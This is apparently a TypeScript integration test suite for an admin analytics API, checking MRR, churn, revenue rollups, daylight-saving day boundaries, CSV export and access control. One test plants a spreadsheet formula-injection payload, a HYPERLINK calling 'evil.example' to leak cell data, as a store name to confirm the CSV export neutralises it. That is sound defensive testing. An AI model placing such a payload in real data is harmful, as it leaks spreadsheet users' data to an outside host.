import { sql, type SQL } from 'drizzle-orm';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { suiteApp } from '../../../test/suite-app';
import { adminKit } from '../../accounts/managed-accounts/admin-test-kit';
import { refreshAnalyticsRollup } from './rollup';
import { mrrAt as mrrAtDefinition, type SubscriptionFact } from './definitions';

const SA = 'superadmin@example.com';
// A quiet stretch of time no demo data reaches: the fixture below is all there is in it. Dates in a range are the
// platform time zone's days (Los Angeles: PST, UTC-8, until 1 April 2001; PDT, UTC-7, after).
const RANGE = 'from=2001-03-01&to=2001-04-01';
/** Midnight, or a time of day, of a winter day of 2001 in Los Angeles. */
const pst = (day: string, time = '00:00:00') => `${day}T${time}-08:00`;

/** The first row of a query. */
async function first<T>(query: SQL): Promise<T> {
  const result = (await suite.t.database.db.execute(query)) as unknown as { rows: T[] };
  return result.rows[0] as T;
}

const suite = suiteApp(adminKit);
beforeAll(async () => {
  const plan = await first<{ id: string; price_cents: number }>(
    sql`select id, price_cents from plans where validity = 'month' and price_cents > 0 order by price_cents limit 1`,
  );
  monthly = Number(plan.price_cents);
  const issuer = await first<{ id: string }>(sql`select id from users where email = 'subadmin@example.com'`);
  // a: running since January; b: cancelled 15 March; c: started 10 March; d: started and cancelled in January.
  const fixture: [string, string, string | null][] = [
    ['a', '2001-01-05', null],
    ['b', '2001-02-01', '2001-03-15'],
    ['c', '2001-03-10', null],
    ['d', '2001-01-02', '2001-01-20'],
  ];
  for (const [key, start, end] of fixture) {
    const u = await first<{ id: string }>(sql`insert into users (email, password_hash, role_code, created_at)
        values (${`analytics-${key}@example.com`}, 'x', 'USER', ${pst(start)}::timestamptz) returning id`);
    await first(sql`insert into subscriptions (user_id, plan_id, status, created_at, cancelled_at)
      values (${u.id}, ${plan.id}, ${end ? 'cancelled' : 'active'}, ${pst(start)}::timestamptz,
        ${end ? pst(end) : null}::timestamptz)`);
    await first(sql`insert into invoices (number, user_id, issuer_user_id, category, lines, subtotal_cents,
        total_cents, status, due_at, paid_at, created_at)
      values (${`AN-${key}`}, ${u.id}, ${issuer.id}, 'subscription', '[]'::jsonb, 1500, 1500,
        ${key === 'c' ? 'open' : 'paid'}, ${pst('2001-03-12', '10:00:00')}::timestamptz,
        ${key === 'c' ? null : pst('2001-03-12', '10:00:00')}::timestamptz, ${pst(start)}::timestamptz)`);
    userIds[key] = u.id;
  }
  // a also paid a forward (25.00), a late fee (10.00) and a label in March (ours 9.00, the carrier's 7.00), and
  // was refunded 5.00 of the forward on 20 March.
  const fwd = await first<{ id: string }>(sql`insert into invoices (number, user_id, category, lines, subtotal_cents,
      total_cents, status, due_at, paid_at, created_at)
    values ('AN-F', ${userIds.a}, 'mail_request',
      ${JSON.stringify([{ description: 'Forward to 1 Main St', quantity: 1, unitAmountCents: 2500, amountCents: 2500 }])}::jsonb,
      2500, 2500, 'paid', ${pst('2001-03-05', '10:00:00')}::timestamptz, ${pst('2001-03-05', '10:00:00')}::timestamptz,
      ${pst('2001-03-05', '10:00:00')}::timestamptz) returning id`);
  await first(sql`insert into invoices (number, user_id, category, lines, subtotal_cents, total_cents, status,
      due_at, paid_at, created_at)
    values ('AN-L', ${userIds.a}, 'late_fee', '[]'::jsonb, 1000, 1000, 'paid', ${pst('2001-03-06', '10:00:00')}::timestamptz,
      ${pst('2001-03-06', '10:00:00')}::timestamptz, ${pst('2001-03-06', '10:00:00')}::timestamptz)`);
  await first(sql`insert into shipments (unique_id, user_id, sender, receiver, carrier, shipment_details, status,
      price_cents, list_price_cents, breakdown, created_at)
    values ('AN-SHIP', ${userIds.a}, '{}'::jsonb, '{}'::jsonb, 'usps', '{}'::jsonb, 'delivered', 900, 3000,
      ${JSON.stringify({ costCents: 700, markupCents: 200, discountCents: 0, priceCents: 900, retailCents: 3000 })}::jsonb,
      ${pst('2001-03-07', '10:00:00')}::timestamptz)`);
  await first(sql`insert into transactions (user_id, invoice_id, amount_cents, kind, status, description, provider,
      request_key, idempotency_key, created_at)
    values (${userIds.a}, ${fwd.id}, 500, 'refund', 'succeeded', 'Refund', 'sandbox', 'an-refund', 'an-refund',
      ${pst('2001-03-20', '10:00:00')}::timestamptz)`);
});

const userIds: Record<string, string> = {};

let monthly = 0;

describe('GET analytics/summary', () => {
  it('answers the fixture: MRR at the end vs the start, new, churned, revenue, past due', async () => {
    const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${RANGE}`);
    expect(res.statusCode).toBe(200);
    const data = res.json().data;
    // Active on 1 March: a and b; on 1 April: a and c.
    expect(data.previousMrrCents).toBe(2 * monthly);
    expect(data.mrrCents).toBe(2 * monthly);
    expect(data.mrrChangeCents).toBe(0);
    expect(data.newSubscriptions).toBe(1);
    expect(data.churnedSubscriptions).toBe(1);
    expect(data.reactivatedSubscriptions).toBe(0);
    // a, b and d were paid on 12 March; c is open and due since then.
    expect(data.revenueByCategory).toEqual([
      { category: 'subscriptions', cents: 4500, invoices: 3 },
      { category: 'fees', cents: 1000, invoices: 1 },
      { category: 'forwards', cents: 2500, invoices: 1 },
      { category: 'shipping_margin', cents: 200, invoices: 1 },
    ]);
    expect(data.refunds).toEqual({ cents: 500, count: 1 });
    expect(data.netRevenueCents).toBe(4500 + 1000 + 2500 + 200 - 500);
    expect(data.shipments).toEqual({ count: 1, customerSavingsCents: 2100 });
    // One point a day; revenue lands on the day it was paid; MRR is taken at each day's end, so b's cancellation
    // at the start of the 15th shows on the 14th.
    expect(data.series.unit).toBe('day');
    expect(data.series.points).toHaveLength(31);
    const day = (d: number) => data.series.points[d - 1];
    expect(day(12).revenueCents).toBe(4500);
    expect(day(5).revenueCents).toBe(2500);
    expect(data.series.points.reduce((sum: number, p: { revenueCents: number }) => sum + p.revenueCents, 0)).toBe(
      4500 + 2500 + 1000,
    );
    expect(day(13).mrrCents).toBe(3 * monthly);
    expect(day(14).mrrCents).toBe(2 * monthly);
    expect(data.pastDue).toEqual({ cents: 1500, invoices: 1, accounts: 1 });
    expect(data.topSubAdmins).toEqual([expect.objectContaining({ email: 'subadmin@example.com', cents: 4500 })]);
    // A year asks for month points.
    const year = (await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-01-01&to=2002-01-01')).json().data;
    expect(year.series.unit).toBe('month');
    expect(year.series.points).toHaveLength(12);
    expect(data.mailVolume).toEqual([]);
    expect(data.requestTurnaround).toEqual([]);

    // The daily rollup (refreshed by the billing runner's job) answers the same as the live queries did.
    const live = data;
    expect(await refreshAnalyticsRollup(suite.t.database.db, new Date())).toBe(true);
    const rolled = (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${RANGE}`)).json().data;
    expect(rolled).toEqual(live);
    // A range that starts mid-day reads its first, partial day live and the rest from the rollup.
    const partial = (
      await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?from=${pst('2001-03-05', '12:00:00')}&to=2001-04-01`)
    ).json().data;
    expect(partial.revenueByCategory.find((r: { category: string }) => r.category === 'fees').cents).toBe(1000);
    expect(partial.revenueByCategory.find((r: { category: string }) => r.category === 'forwards').cents).toBe(0);
    // What happens after the refresh is read live: a fee paid now shows at once in a range that reaches now.
    const daysFromNow = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    const recent = `/api/v1/analytics/summary?from=${daysFromNow(-300)}&to=${daysFromNow(1)}`;
    const now = (await suite.kit.as(SA, 'GET', recent)).json().data;
    const a = await first<{ id: string }>(sql`select id from users where email = 'analytics-a@example.com'`);
    await first(sql`insert into invoices (number, user_id, category, lines, subtotal_cents, total_cents, status,
        due_at, paid_at, created_at)
      values ('AN-NOW', ${a.id}, 'late_fee', '[]'::jsonb, 700, 700, 'paid', now(), now(), now())`);
    const later = (await suite.kit.as(SA, 'GET', recent)).json().data;
    const fees = (s: { revenueByCategory: { category: string; cents: number }[] }) =>
      s.revenueByCategory.find((r) => r.category === 'fees')!.cents;
    expect(fees(later)).toBe(fees(now) + 700);

    const jan = (await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-01-01&to=2001-02-01')).json().data;
    expect(jan.newSubscriptions).toBe(2);
    // d started and ended inside January: not active at the start, so not churn.
    expect(jan.churnedSubscriptions).toBe(0);
    // On 1 February a runs and b starts that very moment.
    expect(jan.mrrCents).toBe(2 * monthly);
    expect(jan.previousMrrCents).toBe(0);
  });

  it("answers each series point's MRR as the definition does at the point's end (day and month points)", async () => {
    const facts: SubscriptionFact[] = [
      ['2001-01-05', null],
      ['2001-02-01', '2001-03-15'],
      ['2001-03-10', null],
      ['2001-01-02', '2001-01-20'],
    ].map(([start, end], i) => ({
      userId: String(i),
      priceCents: monthly,
      validity: 'month' as const,
      startedAt: new Date(pst(start!)),
      endedAt: end ? new Date(pst(end)) : null,
    }));
    for (const range of [RANGE, 'from=2001-01-01&to=2002-01-01', 'from=2001-01-15T12:00:00Z&to=2001-02-10']) {
      const data = (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`)).json().data;
      const points = data.series.points as { start: string; mrrCents: number }[];
      const ends = points.map((_, i) => new Date(points[i + 1]?.start ?? data.to));
      expect(points.map((p) => p.mrrCents)).toEqual(ends.map((end) => mrrAtDefinition(facts, end)));
    }
  });

  it('lists the ten sub-admins with the most revenue even behind fifty larger issuers who are not sub-admins', async () => {
    const issue = async (key: string, role: 'USER' | 'SUB_ADMIN', cents: number) => {
      const u = await first<{ id: string }>(sql`insert into users (email, password_hash, role_code)
        values (${`analytics-issuer-${key}@example.com`}, 'x', ${role}) returning id`);
      await first(sql`insert into invoices (number, user_id, issuer_user_id, category, lines, subtotal_cents,
          total_cents, status, due_at, paid_at, created_at)
        values (${`AN-ISS-${key}`}, ${userIds.a}, ${u.id}, 'late_fee', '[]'::jsonb, ${cents}, ${cents}, 'paid',
          '2002-02-10', '2002-02-10', '2002-02-10')`);
    };
    for (let i = 0; i < 55; i++) await issue(`big-${i}`, 'USER', 100_000 + i);
    for (let i = 0; i < 12; i++) await issue(`sub-${String(i).padStart(2, '0')}`, 'SUB_ADMIN', 1_000 + (i % 6));
    // Days long past are read from the rollup: refreshed to hold them.
    await refreshAnalyticsRollup(suite.t.database.db, new Date());
    const data = (await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2002-02-01&to=2002-03-01')).json().data;
    // 1,005 down to 1,000 cents, two of each; ties by e-mail.
    expect(data.topSubAdmins.map((s: { email: string; cents: number }) => [s.email, s.cents])).toEqual(
      [5, 11, 4, 10, 3, 9, 2, 8, 1, 7].map((i) => [
        `analytics-issuer-sub-${String(i).padStart(2, '0')}@example.com`,
        1_000 + (i % 6),
      ]),
    );
  });

  it('exports the same figures as CSV', async () => {
    const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${RANGE}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toContain('analytics-2001-03-01-2001-04-01.csv');
    expect(res.body).toContain('subscriptions,New,1\n');
    expect(res.body).toContain('revenue (USD),subscriptions,45.00\n');
    expect(res.body).toContain('revenue (USD),refunds,-5.00\nrevenue (USD),net,77.00\n');
    expect(res.body).toContain('day revenue (USD),2001-03-12,45.00\n');
    expect(res.body).toContain('top sub-admins (USD),subadmin@example.com,45.00\n');
  });

  it('writes a store named like a formula as text, and negative amounts as numbers', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")';
    const stores = await suite.t.database.db.execute(sql`select id, name from stores`);
    const before = (stores as unknown as { rows: { id: string; name: string }[] }).rows;
    await suite.t.database.db.execute(sql`update stores set name = ${evil}`);
    try {
      await refreshAnalyticsRollup(suite.t.database.db, new Date());
      const to = new Date(Date.now() + 86_400_000);
      const from = new Date(to.getTime() - 365 * 86_400_000);
      const range = `from=${from.toISOString().slice(0, 10)}&to=${to.toISOString().slice(0, 10)}`;
      const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${range}`);
      expect(res.statusCode).toBe(200);
      const rows = Papa.parse<string[]>(res.body.trim()).data;
      const labels = rows.flatMap((r) => [r[1] ?? '']).filter((l) => l.includes('HYPERLINK'));
      expect(labels.length).toBeGreaterThan(0);
      // Every cell naming the store starts with the apostrophe that makes a spreadsheet show it as text.
      for (const label of labels) expect(label.startsWith("'=HYPERLINK")).toBe(true);
      expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
      expect(res.body).toMatch(/\nrevenue \(USD\),refunds,-\d+\.\d{2}\n/);
    } finally {
      for (const store of before) {
        await suite.t.database.db.execute(sql`update stores set name = ${store.name} where id = ${store.id}`);
      }
    }
  });

  it('is for the super admin only: 401 without a session, 403 for a sub-admin and a customer', async () => {
    expect((await suite.kit.as(null, 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(401);
    expect((await suite.kit.as('subadmin@example.com', 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(
      403,
    );
    expect((await suite.kit.as('user@example.com', 'GET', `/api/v1/analytics/summary?${RANGE}`)).statusCode).toBe(403);
    expect((await suite.kit.as('user@example.com', 'GET', `/api/v1/analytics/summary.csv?${RANGE}`)).statusCode).toBe(
      403,
    );
  });

  it('refuses a bad range with 422', async () => {
    const backwards = await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-04-01&to=2001-03-01');
    expect(backwards.statusCode).toBe(422);
    expect(JSON.stringify(backwards.json())).toContain('To must be after From.');
    expect((await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=nope&to=2001-03-01')).statusCode).toBe(422);
    // A date off the calendar is refused, not rolled over into the next year.
    const offCalendar = await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-13-45&to=2002-03-01');
    expect(offCalendar.statusCode).toBe(422);
    expect(JSON.stringify(offCalendar.json())).toContain('From is not a valid date.');
    expect((await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=1990-01-01&to=2001-03-01')).statusCode).toBe(
      422,
    );
  });
});

describe('GET dashboard/super-admin', () => {
  it('answers live figures for the super admin', async () => {
    const res = await suite.kit.as(SA, 'GET', '/api/v1/dashboard/super-admin');
    expect(res.statusCode).toBe(200);
    const data = res.json().data;
    const active = await first<{ n: number }>(
      sql`select count(*)::int as n from subscriptions s join users u on u.id = s.user_id
        where u.role_code = 'USER' and s.status = 'active'`,
    );
    expect(data.activeCustomers).toBe(active.n);
    expect(data.pastDueAccounts).toBeGreaterThanOrEqual(1);
    expect(data.openRequestsByAge.map((b: { bucket: string }) => b.bucket)).toEqual([
      'Under 1 day',
      '1–3 days',
      '3–7 days',
      'Over 7 days',
    ]);
    expect(data.recentAudit.length).toBeLessThanOrEqual(5);
  });

  it('is refused to a sub-admin and a customer', async () => {
    expect((await suite.kit.as(null, 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(401);
    expect((await suite.kit.as('subadmin@example.com', 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(403);
    expect((await suite.kit.as('user@example.com', 'GET', '/api/v1/dashboard/super-admin')).statusCode).toBe(403);
  });
});

describe('the rollup across its edges', () => {
  it('answers what the live queries answer, whichever part of a range the month rows, day rows and live queries read', async () => {
    const db = suite.t.database.db;
    const boxes = (
      (await db.execute(
        sql`select distinct on (store_id) id, user_id, store_id from mailboxes order by store_id, id`,
      )) as unknown as {
        rows: { id: string; user_id: string; store_id: string }[];
      }
    ).rows;
    expect(boxes.length).toBeGreaterThan(0);
    const issuer = await first<{ id: string }>(sql`select id from users where email = 'subadmin@example.com'`);
    let n = 0;
    /** A mail item (alternating stores and kinds) and a paid invoice issued by the sub-admin, both at `at`. */
    const fact = async (at: string) => {
      n += 1;
      const box = boxes[n % boxes.length]!;
      await db.execute(sql`insert into mail_items (mailbox_id, user_id, store_id, kind, sender, received_at, free_until, created_at)
        values (${box.id}, ${box.user_id}, ${box.store_id}, ${n % 2 ? 'letter' : 'package'}, 'Edge test', ${at}::timestamptz,
          ${at}::timestamptz, ${at}::timestamptz)`);
      await db.execute(sql`insert into invoices (number, user_id, issuer_user_id, category, lines, subtotal_cents,
          total_cents, status, due_at, paid_at, created_at)
        values (${`AN-EDGE-${n}`}, ${userIds.a}, ${issuer.id}, ${n % 3 ? 'late_fee' : 'subscription'}, '[]'::jsonb,
          ${100 * n}, ${100 * n}, 'paid', ${at}::timestamptz, ${at}::timestamptz, ${at}::timestamptz)`);
    };
    // Around each edge of a rollup refreshed on 15 June 2001 at 10:00: whole months (May), the whole days of a partial
    // month (April from the 11th, June before the 15th), the partial first day, and the refresh's day onwards.
    for (const at of [
      '2001-04-10T03:00:00-07:00',
      '2001-04-10T20:00:00-07:00',
      '2001-04-20T12:00:00-07:00',
      '2001-05-01T00:00:00-07:00',
      '2001-05-31T23:30:00-07:00',
      '2001-06-03T12:00:00-07:00',
      '2001-06-14T23:59:00-07:00',
      '2001-06-15T01:00:00-07:00',
      '2001-06-15T18:00:00-07:00',
      '2001-06-20T12:00:00-07:00',
      '2001-07-01T00:00:00-07:00',
    ]) {
      await fact(at);
    }
    const ranges = [
      'from=2001-04-10T06:00:00-07:00&to=2001-07-01',
      'from=2001-04-01&to=2001-07-02',
      'from=2001-04-11&to=2001-06-01',
      'from=2001-06-02&to=2001-06-16',
      'from=2001-06-15T12:00:00-07:00&to=2001-06-30',
    ];
    const answers = async () => {
      const out = [];
      for (const range of ranges) {
        const res = await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`);
        expect(res.statusCode).toBe(200);
        out.push(res.json().data);
      }
      return out;
    };
    const mailCount = (s: { mailVolume: { count: number }[] }) => s.mailVolume.reduce((sum, m) => sum + m.count, 0);
    const issued = (s: { topSubAdmins: { cents: number }[] }) => s.topSubAdmins[0]?.cents ?? 0;

    // Never refreshed: every figure is live.
    await db.execute(sql`delete from analytics_refresh`);
    const live = await answers();
    // The first range holds the facts from 10 April 20:00 to 20 June: 9 of them (the 2nd to the 10th).
    expect(mailCount(live[0])).toBe(9);
    expect(issued(live[0])).toBe(100 * (2 + 3 + 4 + 5 + 6 + 7 + 8 + 9 + 10));

    expect(await refreshAnalyticsRollup(db, new Date('2001-06-15T10:00:00-07:00'))).toBe(true);
    expect(await answers()).toEqual(live);

    // After the refresh, a write on the refresh's day or later is read live at once.
    await fact('2001-06-20T13:00:00-07:00');
    const afterWrite = await answers();
    expect(mailCount(afterWrite[0])).toBe(10);
    expect(issued(afterWrite[0])).toBe(issued(live[0]) + 100 * n);
    await db.execute(sql`delete from analytics_refresh`);
    const liveAgain = await answers();
    expect(afterWrite).toEqual(liveAgain);

    // A fact in the rolled days shows from the next refresh on (the rolled sums are kept per refresh).
    await fact('2001-05-05T12:00:00-07:00');
    expect(await refreshAnalyticsRollup(db, new Date('2001-06-15T10:00:01-07:00'))).toBe(true);
    const rolled = await answers();
    expect(mailCount(rolled[0])).toBe(11);
    await db.execute(sql`delete from analytics_refresh`);
    expect(rolled).toEqual(await answers());
    await refreshAnalyticsRollup(db, new Date());
  });

  it("counts days in the platform's time zone across a daylight-saving change, rolled up or live", async () => {
    const db = suite.t.database.db;
    // Los Angeles fell back on 28 October 2001: that day lasted 25 hours (00:00 PDT, UTC-7, to 00:00 PST, UTC-8).
    const paid = async (number: string, at: string, cents: number) =>
      db.execute(sql`insert into invoices (number, user_id, category, lines, subtotal_cents, total_cents, status,
          due_at, paid_at, created_at)
        values (${number}, ${userIds.a}, 'late_fee', '[]'::jsonb, ${cents}, ${cents}, 'paid', ${at}::timestamptz,
          ${at}::timestamptz, ${at}::timestamptz)`);
    await paid('AN-DST-1', '2001-10-28T00:30:00-07:00', 100); // just after the 28th began
    await paid('AN-DST-2', '2001-10-28T23:30:00-08:00', 200); // the 28th's last hour: 29 October in UTC
    await paid('AN-DST-3', '2001-10-29T00:30:00-08:00', 400); // the 29th
    await paid('AN-DST-4', '2001-10-27T23:59:00-07:00', 800); // the 27th: 28 October in UTC
    const range = 'from=2001-10-27&to=2001-10-30';
    const read = async () => (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary?${range}`)).json().data;

    await db.execute(sql`delete from analytics_refresh`);
    const live = await read();
    expect(live.timeZone).toBe('America/Los_Angeles');
    expect(live.from).toBe('2001-10-27T07:00:00.000Z');
    expect(live.to).toBe('2001-10-30T08:00:00.000Z');
    expect(live.series.points.map((p: { start: string; revenueCents: number }) => [p.start, p.revenueCents])).toEqual([
      ['2001-10-27T07:00:00.000Z', 800],
      ['2001-10-28T07:00:00.000Z', 300],
      ['2001-10-29T08:00:00.000Z', 400],
    ]);

    // The rollup sums by the same days: refreshed after the range, it answers what the live queries did.
    expect(await refreshAnalyticsRollup(db, new Date('2001-11-05T12:00:00Z'))).toBe(true);
    expect(await read()).toEqual(live);

    // A range that ends mid-day keeps that day's point, holding what was paid before the end.
    const midDay = (
      await suite.kit.as(SA, 'GET', '/api/v1/analytics/summary?from=2001-10-28&to=2001-10-29T12:00:00-08:00')
    ).json().data;
    expect(midDay.series.points.map((p: { revenueCents: number }) => p.revenueCents)).toEqual([300, 400]);

    const csv = (await suite.kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${range}`)).body;
    expect(csv).toContain('range,time zone,America/Los_Angeles\n');
    expect(csv).toContain('day revenue (USD),2001-10-28,3.00\n');
    await refreshAnalyticsRollup(db, new Date());
  });
});
